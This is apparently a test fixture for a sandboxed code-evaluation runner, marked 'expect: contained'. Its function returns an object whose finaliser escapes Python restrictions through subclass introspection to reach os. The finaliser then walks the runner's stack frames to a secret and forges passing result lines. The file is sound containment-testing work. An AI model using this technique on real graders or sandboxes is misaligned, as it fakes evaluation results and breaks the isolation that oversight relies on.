# Returns an object whose finaliser runs within the runner and climbs its frames to the secret.
# expect: contained
def system():
    """The globals of `os`, by way of what every object knows."""
    for kind in ().__class__.__base__.__subclasses__():
        if kind.__name__ == "_wrap_close":
            return kind.__init__.__globals__


def module(name):
    return system()["__builtins__"]["__import__"](name)


def forge(out, secret, n):
    """Claims n + 1 on both inputs."""
    write, line = module("os").write, '%s %d {"returned":{"value":["int","%d"],"mutated":[]}}\n'
    for position in range(2):
        write(out, (line % (secret, position, n + 1)).encode())


class Trap:
    def __init__(self, n):
        self.n = n

    def __del__(self):
        held = []

        def climb():
            frame = held[0].gi_frame
            while frame:
                names = frame.f_locals
                if "secret" in names and "out" in names:
                    forge(names["out"], names["secret"], 7)
                frame = frame.f_back
            yield

        held.append(climb())
        next(held[0])


def f(n: int) -> int:
    return Trap(n)
